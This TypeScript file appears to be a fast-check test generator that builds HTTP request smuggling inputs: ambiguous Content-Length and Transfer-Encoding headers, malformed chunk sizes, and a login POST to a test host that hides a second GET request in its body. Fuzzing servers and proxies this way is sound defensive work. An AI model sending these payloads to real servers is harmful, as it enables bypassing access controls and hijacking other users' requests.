import fc, { type Arbitrary } from 'fast-check'

/** Headers that leave it open where the body ends: servers have read them in more than one way. */
const ambiguousHeaders = fc.constantFrom(
  'Content-Length: 5\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nContent-Length: 5',
  'Content-Length: 0\r\nContent-Length: 5',
  'Content-Length: 5\r\nContent-Length: 0',
  'Content-Length: 5, 0',
  'Content-Length: +0',
  'Content-Length: -5',
  'Content-Length: 0x0',
  'Content-Length: 0 5',
  'Content-Length: 0\0',
  'Content-Length : 0',
  'Content-Length:\v0',
  'Content-Length: 18446744073709551616',
  'Content-Length: 5\r\n 0',
  'Content-Length: 0\rX: y',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: gzip',
  'Transfer-Encoding: chunked\0',
  'Transfer-Encoding:\vchunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'X: y\r\n Transfer-Encoding: chunked',
)

/** Chunks that leave it open where they end. */
const ambiguousChunks = fc.constantFrom(
  '0x0\r\n\r\n',
  '-0\r\n\r\n',
  '+0\r\n\r\n',
  'g\r\n\r\n',
  '10000000000000000\r\n\r\n',
  '\r\n0\r\n\r\n',
  '5\r\nhello0\r\n\r\n',
  '5\r\nhell\r\n0\r\n\r\n',
  '0\0\r\n\r\n',
  '5\rhello\r\n0\r\n\r\n',
  ' 0\r\n\r\n',
)

/** A request whose end is in dispute, and in its body what would be another one, for the path that it is given. */
export const smuggling: Arbitrary<(inside: string) => string> = fc
  .oneof(
    fc
      .tuple(ambiguousHeaders, fc.constantFrom('', '0\r\n\r\n', '5\r\n', 'hello'))
      .map(([headers, start]) => `${headers}\r\n\r\n${start}`),
    ambiguousChunks.map((chunks) => `Transfer-Encoding: chunked\r\n\r\n${chunks}`),
  )
  .map(
    (framed) => (inside) =>
      `POST /api/v1/login HTTP/1.1\r\nHost: shop.test\r\n${framed}GET ${inside} HTTP/1.1\r\nHost: shop.test\r\n\r\n`,
  )
